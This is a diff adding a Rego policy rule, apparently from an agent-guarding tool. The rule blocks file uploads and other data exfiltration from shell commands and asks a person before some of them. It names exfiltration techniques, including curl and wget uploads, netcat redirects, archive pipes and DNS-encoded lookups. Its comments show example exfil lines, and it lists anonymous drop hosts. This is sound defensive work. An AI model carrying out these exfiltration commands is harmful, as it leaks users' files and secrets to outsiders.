@@ -1,0 +1,216 @@
+# METADATA
+# title: Sending files away
+# description: >-
+#   Files given to another machine: uploads, archives through a pipe, copies of the home folder, data hidden in names that are looked
+#   up. To places made for dropping things anonymously it is refused, elsewhere a person decides. Data that an API is called with
+#   passes.
+# custom:
+#   id: exfil.upload
+#   severity: high
+#   events: [tool.before, permission.request]
+#   tools: [shell, mcp]
+#   docs: docs/rules/exfil/upload.md
+package hookguard.rules.exfil.upload
+
+import data.hookguard.lib.flow
+import data.hookguard.lib.network
+import data.hookguard.lib.path
+import data.hookguard.lib.shell
+import data.hookguard.lib.url
+import data.hookguard.lib.verbs
+
+deny contains {
+	"reason": "This sends a file to a site where anybody can pick it up.",
+	"fix": "Show the user the file, and let them share it.",
+	"evidence": c.text,
+} if {
+	some j, c in shell.commands
+	network.sends(c)
+	carries_data(j, c)
+	some u in input.urls
+	u.command == j
+	url.host_in(u, drops)
+}
+
+ask contains {
+	"reason": "This sends files to another machine.",
+	"fix": "Tell the user what would be sent and where, and let them decide.",
+	"evidence": c.text,
+} if {
+	some j, c in shell.commands
+	network.sends(c)
+	carries_file(j, c)
+	not network.stays_here(j)
+	not verbs.is_trial(c)
+}
+
+# Names that are looked up carry what they are made of to the name's owner.
+deny contains {
+	"reason": "This puts data into a name that is looked up, which sends it away.",
+	"fix": "Look up the plain name.",
+	"evidence": c.text,
+} if {
+	some j, c in shell.commands
+	c.program in (network.name_clients | {"ping", "ping6"})
+	shell.unknown_operand(c)
+	some i in flow.within(j)
+	gives_contents(i)
+}
+
+# `for l in $(xxd -p f); do dig $l.example.com; done`
+ask contains {
+	"reason": "This looks up names made of encoded data, which sends it away.",
+	"fix": "Look up the plain name.",
+	"evidence": c.text,
+} if {
+	some c in shell.commands
+	c.program in network.name_clients
+	shell.unknown_operand(c)
+	some e in shell.commands
+	e.program in encoders
+}
+
+gives_contents(i) if shell.commands[i].program in (encoders | {"whoami", "id", "env", "printenv"})
+
+gives_contents(i) if {
+	some p in path.read
+	p.command == i
+}
+
+encoders := {"base32", "base64", "basenc", "gzip", "hexdump", "od", "openssl", "xxd"}
+
+carries_data(j, c) if carries_file(j, c)
+
+carries_data(_, c) if {
+	c.program in network.web_clients
+	shell.has_exact_option(c, {
+		"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--json", "-F", "--form", "--post-data", "--body-data",
+	})
+}
+
+carries_data(j, c) if {
+	c.program in network.socket_clients
+	count(flow.before(j)) > 0
+}
+
+# Upload options.
+carries_file(_, c) if {
+	some value in shell.option_values(c, {"-T", "--upload-file"})
+	c.program == "curl"
+	value != "-"
+}
+
+carries_file(_, c) if {
+	c.program == "curl"
+	some value in shell.option_values(c, {"-F", "--form"})
+	some mark in {"=@", "=<"}
+	contains(value, mark)
+}
+
+carries_file(_, c) if {
+	c.program == "wget"
+	shell.has_option(c, {"--post-file", "--body-file"})
+}
+
+# A body from a file: ordinary for files of the project, not for others.
+carries_file(j, c) if {
+	c.program == "curl"
+	some value in shell.option_values(c, {"-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json"})
+	contains(value, "@")
+	some p in path.read
+	p.command == j
+	is_elsewhere(p)
+}
+
+# What comes through a pipe from an archive, a dump, or a file that isn't the project's.
+carries_file(j, c) if {
+	takes_input(c)
+	some i in flow.before(j)
+	packs(shell.commands[i])
+}
+
+carries_file(j, c) if {
+	takes_input(c)
+	some i in flow.before(j)
+	some p in path.read
+	p.command == i
+	is_elsewhere(p)
+}
+
+# `nc host port < file`
+carries_file(j, c) if {
+	c.program in network.socket_clients
+	some redirect in c.redirects
+	redirect.op == "<"
+	not startswith(redirect.target, "/dev/")
+	network.has_address(j)
+}
+
+carries_file(j, c) if {
+	c.program in network.socket_clients
+	network.has_address(j)
+	some i in flow.before(j)
+	some p in path.read
+	p.command == i
+}
+
+# Attachments.
+carries_file(_, c) if {
+	c.program in {"mail", "mailx", "mutt", "swaks"}
+	shell.has_option(c, {"-a", "-A", "--attach"})
+}
+
+# Copies to another machine, of what isn't a part of the project.
+carries_file(j, c) if {
+	c.program in {"rsync", "scp"}
+	is_remote(c.operands[count(c.operands) - 1])
+	some p in path.read
+	p.command == j
+	is_elsewhere(p)
+}
+
+is_remote(operand) if {
+	contains(operand, ":")
+	not startswith(operand, "/")
+	not startswith(operand, ".")
+}
+
+takes_input(c) if c.program in network.socket_clients
+
+takes_input(c) if {
+	c.program in network.web_clients
+	some option in c.options
+	option.value in {"-", "@-", ".", "file=@-"}
+}
+
+takes_input(c) if {
+	c.program == "curl"
+	some option in c.options
+	endswith(option.value, "@-")
+}
+
+takes_input(c) if c.program in {"mail", "mailx", "mutt", "sendmail", "msmtp"}
+
+packs(c) if c.program in {"tar", "bsdtar", "zip", "7z", "cpio", "pg_dump", "pg_dumpall", "mysqldump", "mongodump", "dd"}
+
+packs(c) if {
+	c.program == "git"
+	c.subcommand[0] in {"archive", "bundle"}
+}
+
+# Not the project's, and not scratch.
+is_elsewhere(p) if {
+	not p.in_project
+	not path.under_any(p, {"/tmp", "/var/tmp", "/private/tmp", "/var/folders", "/dev"})
+}
+
+# METADATA
+# title: drops
+# description: Sites that take anything from anybody and show it to anybody, or that only show requests.
+drops := {
+	"0x0.st", "anonfiles.com", "bashupload.com", "bin.equinox.io", "burpcollaborator.net", "canarytokens.com", "catbox.moe",
+	"dpaste.com", "dpaste.org", "file.io", "filebin.net", "gofile.io", "hastebin.com", "hookbin.com", "interact.sh", "ix.io",
+	"keep.sh", "litterbox.catbox.moe", "oast.fun", "oast.live", "oast.me", "oast.online", "oast.pro", "oast.site", "oastify.com",
+	"oshi.at", "paste.ee", "paste.rs", "pastebin.com", "pipedream.net", "ptpb.pw", "requestbin.com", "requestbin.net",
+	"requestcatcher.com", "rentry.co", "sprunge.us", "temp.sh", "termbin.com", "transfer.sh", "uguu.se", "webhook.site", "wormhole.app",
+}
